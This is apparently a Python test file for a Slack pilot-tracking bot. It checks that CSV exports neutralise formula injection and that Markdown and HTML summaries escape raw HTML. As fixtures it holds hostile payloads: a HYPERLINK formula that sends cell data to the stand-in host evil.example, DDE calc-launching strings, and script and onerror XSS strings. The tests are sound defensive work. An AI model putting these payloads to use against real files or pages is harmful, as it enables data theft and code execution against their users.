"""What the exports do with people's text (security issue #13, points 7 and 9): a note or name
that a spreadsheet would run as a formula is neutralised in every CSV we write, and raw HTML in
names, workflows and quotes is text in summary.md as it already is in summary.html. Written by
the CLI (``report``, ``export``) from a pilot its team filled in through Slack and the webhook.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

from markdown_it import MarkdownIt

from bot.report import write_summary
from bot.services.results import load_summary
from bot.services.snapshot import load_snapshot
from tests.conftest import START, Harness
from tests.security.pilot import CLARA, INES, OLAF, cli, measured_pilot, push, said
from tests.slack.world import SlackWorld

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
# (a leading TAB or CR cannot reach a cell: notes are stripped, CR becomes LF at the edge)
FORMULAS = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0"]
EVIL = "UEVIL005"
IMG = "<img src=x onerror=alert(1)>"
SCRIPT = "<script>alert(1)</script>"


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


async def test_formulas_in_notes_and_names_stay_text_in_every_csv(
    world_on_each_db: SlackWorld, db_url: str, tmp_path: Path
) -> None:
    world = world_on_each_db
    token = await measured_pilot(world)
    for n, note in enumerate(FORMULAS):
        status, _ = await push(world, {"metric": "repair time", "value": 7 - n, "note": note},
                               token)  # fmt: skip
        assert status == 201, note
    assert "Recorded" in await said(world, INES, "checkin repair time 6,5 =1+1")
    assert "Metric" in await said(world, OLAF, "metric add =cmd @u baseline=2")
    assert "Recorded" in await said(world, INES, "checkin =cmd 3 -x")
    report = cli("report", "--pilot", "1", "--out", str(tmp_path), db=db_url)
    assert report.returncode == 0, report.stderr
    exported = cli("export", "--format", "csv", db=db_url)
    assert exported.returncode == 0, exported.stderr
    for text in ((tmp_path / "checkins.csv").read_text("utf-8"), exported.stdout):
        table = rows(text)
        assert [r["note"] for r in table] == ["'" + f for f in FORMULAS] + ["'=1+1", "'-x"]
        assert {(r["metric"], r["unit"]) for r in table} == {("repair time", "days"),
                                                             ("'=cmd", "'@u")}  # fmt: skip
        for r in table:  # numbers stay numbers: nothing prefixed, a spreadsheet sums them
            assert float(r["value"]) >= 0 and float(r["baseline_estimate"]) > 0
            assert int(r["pilot_id"]) == 1 and int(r["week"]) == 1
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r"))
                       for r in table for cell in r.values())  # fmt: skip


async def test_raw_html_in_names_is_text_in_summary_md_and_html(
    world_on_each_db: SlackWorld, db_url: str, tmp_path: Path
) -> None:
    world = world_on_each_db
    world.fake.add_user(EVIL, IMG, "T0001")
    await measured_pilot(world)
    await world.pick(CLARA, "integrator", EVIL)
    assert "recorded" in await said(world, OLAF, f'process add "{SCRIPT}" hours=3')
    assert "Chosen" in await said(world, CLARA, "process pick 1")
    await said(world, EVIL, f"retro 1 It worked {IMG} | fine")
    await said(world, OLAF, "checkin repair time 7")
    report = cli("report", "--pilot", "1", "--out", str(tmp_path), db=db_url)
    assert report.returncode == 0, report.stderr
    exported = cli("export", "--pilot", "1", "--format", "md", db=db_url)
    assert exported.returncode == 0, exported.stderr
    markdown = MarkdownIt("commonmark")  # renders raw HTML, as GitHub-like viewers would
    for md in ((tmp_path / "summary.md").read_text("utf-8"), exported.stdout):
        assert IMG in md.replace("\\", "") and SCRIPT in md.replace("\\", "")  # all still there
        rendered = markdown.render(md)
        assert rendered.count("<img") == 1 and '<img src="summary.png"' in rendered  # the chart
        assert "<script" not in rendered
        assert "&lt;img src=x onerror=alert(1)&gt;" in rendered  # shown as the text it is
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in rendered
        assert "It worked &lt;img src=x onerror=alert(1)&gt; | fine" in rendered
        assert "&amp;" not in md and "&#39;" not in md  # backslashes, not HTML entities
    html = (tmp_path / "summary.html").read_text("utf-8")
    assert "<img src=x" not in html and "<script" not in html
    assert "&lt;img src=x onerror=alert(1)&gt;" in html


async def test_reports_name_people_by_display_name_never_by_token(
    harness: Harness, tmp_path: Path
) -> None:
    await harness.say("clara", "start 2027-01-04")
    await harness.say("clara", "assign champion @clara")
    await harness.say("clara", "assign integrator @olaf")
    async with harness.app.uow() as uow:
        pilot = (await uow.pilots.all_pilots())[0]
        summary = await load_summary(uow, await load_snapshot(uow, pilot, START))
    for path in write_summary(summary, tmp_path):
        if path.suffix in (".md", ".html", ".csv", ".json"):
            written = path.read_text("utf-8")
            assert not re.search("[\x00-\x08\x0b-\x1f]", written), path.name
    assert "Integrator: olaf" in (tmp_path / "summary.md").read_text("utf-8")
